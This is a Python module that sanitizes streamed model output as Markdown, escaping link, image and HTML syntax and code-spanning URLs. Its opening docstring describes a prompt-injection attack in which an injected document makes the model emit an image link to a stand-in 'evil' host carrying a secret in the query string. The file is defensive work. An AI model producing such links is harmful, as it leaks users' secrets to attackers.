r"""Model and document text as Markdown that can neither fetch nor link anywhere.

A prompt-injected document can make the model write ``![x](https://evil/?q=<secret>)``; rendered
as Markdown, the browser would fetch that URL on its own and leak the secret. The trade-off:
rather than parse Markdown (and trust that our parser agrees with the browser's on every edge
case), we escape the few characters that every link, image and raw-HTML form needs (``[``,
``]``, ``<`` and ``\\``) and put each URL in a code span, which Markdown never turns into a link.
Emphasis, lists, headings, tables and code still render. Fenced code blocks are left alone only
when they start at column 0, the one place where a fence is a fence whatever came before it;
anywhere else we escape, which at worst shows a stray backslash.

:class:`MarkdownGuard` does this incrementally for streamed answers: it emits text only up to a
point that later text cannot change (the last space, or the end of a line).
"""

from __future__ import annotations

import re

# Characters that open links, images, reference definitions, autolinks and raw HTML, plus the
# escape character itself (so that a model's own "\[" cannot cancel our escape).
_LINK_SYNTAX = re.compile(r"([\\\[\]<])")
# Everything CommonMark lets a backslash escape: for text that must render literally.
_ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
# A URL, anywhere in a token: "scheme://" or GFM's "www." autolink form.
_URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]*://|\bwww\.)")
_SPACE = re.compile(r"(\s+)")
_FENCE_OPEN = re.compile(r"^(`{3,}|~{3,})(.*)$")


def _code_span(token: str) -> str:
    """``token`` as a code span, with a backtick fence longer than any run inside it."""
    longest = max((len(run) for run in re.findall(r"`+", token)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if token.startswith("`") or token.endswith("`") else ""
    return f"{fence}{pad}{token}{pad}{fence}"


def _token(token: str, *, literal: bool) -> str:
    if _URL.search(token):
        return _code_span(token)
    return (_ASCII_PUNCTUATION if literal else _LINK_SYNTAX).sub(r"\\\1", token)


def _words(text: str, *, literal: bool) -> str:
    return "".join(
        part if not part or part.isspace() else _token(part, literal=literal)
        for part in _SPACE.split(text)
    )


def literal_markdown(text: str) -> str:
    """Text that renders exactly as written (file names, passage snippets), URLs unlinked."""
    return _words(text, literal=True)


class MarkdownGuard:
    """Streaming sanitizer: ``feed`` text as it arrives, ``finish`` at the end.

    Example:
        .. code-block:: python

            guard = MarkdownGuard()
            safe = "".join(guard.feed(piece) for piece in pieces) + guard.finish()

    """

    def __init__(self) -> None:
        self._pending = ""  # text not yet emitted (always within the current line)
        self._midline = False  # part of the current line was emitted already
        self._fence: str | None = None  # the opening fence while inside a fenced block

    def feed(self, text: str) -> str:
        """Sanitize what can be decided now; hold back the rest."""
        self._pending += text
        out: list[str] = []
        while "\n" in self._pending:
            line, self._pending = self._pending.split("\n", 1)
            out.append(self._line(line) + "\n")
            self._midline = False
        out.append(self._partial())
        return "".join(out)

    def finish(self) -> str:
        """Emit whatever is held back (call once, at the end of the stream)."""
        line, self._pending = self._pending, ""
        return self._line(line) if line else ""

    def _line(self, line: str) -> str:
        if self._fence is not None:
            stripped = line.strip()
            closes = (
                len(line) - len(line.lstrip(" ")) <= 3
                and stripped.startswith(self._fence)
                and set(stripped) == {self._fence[0]}
            )
            if closes:
                self._fence = None
            return line
        if not self._midline:
            opening = _FENCE_OPEN.match(line)
            # A backtick fence's info string may not contain a backtick (CommonMark).
            if opening and not (opening.group(1)[0] == "`" and "`" in opening.group(2)):
                self._fence = opening.group(1)
                return line
        return _words(line, literal=False)

    def _partial(self) -> str:
        """Emit the current line up to its last space, unless its start is still undecided."""
        if self._fence is not None:
            return ""  # a closing fence is only recognizable on a whole line
        if not self._midline and self._pending[:1] in ("`", "~"):
            return ""  # may become a fence opener
        cut = max(self._pending.rfind(" "), self._pending.rfind("\t"))
        if cut < 0:
            return ""
        head, self._pending = self._pending[: cut + 1], self._pending[cut + 1 :]
        self._midline = True
        return _words(head, literal=False)


def safe_markdown(text: str) -> str:
    """A whole text through :class:`MarkdownGuard`."""
    guard = MarkdownGuard()
    return guard.feed(text) + guard.finish()
